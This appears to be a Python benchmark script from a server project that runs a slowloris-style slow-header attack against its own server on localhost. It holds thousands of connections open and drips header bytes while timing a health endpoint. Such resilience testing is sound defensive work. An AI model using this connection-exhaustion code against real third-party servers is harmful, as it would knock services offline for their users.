#!/usr/bin/env python3
"""Slow-header attack against a running Parley, measured from a second address.

The attacker (bound to 127.0.0.2) opens --connections connections and sends one header byte per
connection every --interval seconds; meanwhile a client on 127.0.0.1 asks /api/health every 100 ms.
Prints how many attacker connections the server kept open and how health fared. Bounded in time.

Usage: bench/slowloris.py --port 8080 [--connections 4200] [--interval 5] [--seconds 30]
"""
import argparse
import resource
import socket
import statistics
import threading
import time
import urllib.request


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=4200)
    parser.add_argument("--interval", type=float, default=5.0)
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    sockets = []
    refused = 0
    for _ in range(args.connections):
        s = socket.socket()
        s.bind(("127.0.0.2", 0))
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", args.port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            continue
        sockets.append(s)

    latencies, failures = [], 0
    stop = threading.Event()

    def health():
        nonlocal failures
        while not stop.is_set():
            started = time.monotonic()
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{args.port}/api/health", timeout=5) as r:
                    r.read()
                latencies.append((time.monotonic() - started) * 1000)
            except Exception:
                failures += 1
            time.sleep(0.1)

    watcher = threading.Thread(target=health)
    watcher.start()
    request = b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10000
    position = 0
    end = time.monotonic() + args.seconds
    open_counts = []
    while time.monotonic() < end:
        alive = 0
        for s in sockets:
            try:
                s.send(request[position:position + 1])
                alive += 1
            except OSError:
                pass
        open_counts.append(alive)
        position += 1
        time.sleep(args.interval)
    stop.set()
    watcher.join()
    for s in sockets:
        s.close()
    median = statistics.median(latencies) if latencies else float("nan")
    print(f"attacker connections: {len(sockets)} opened, still accepting bytes per round: {open_counts}")
    print(f"health: {len(latencies)} answered, {failures} failed, median {median:.1f} ms")


if __name__ == "__main__":
    main()
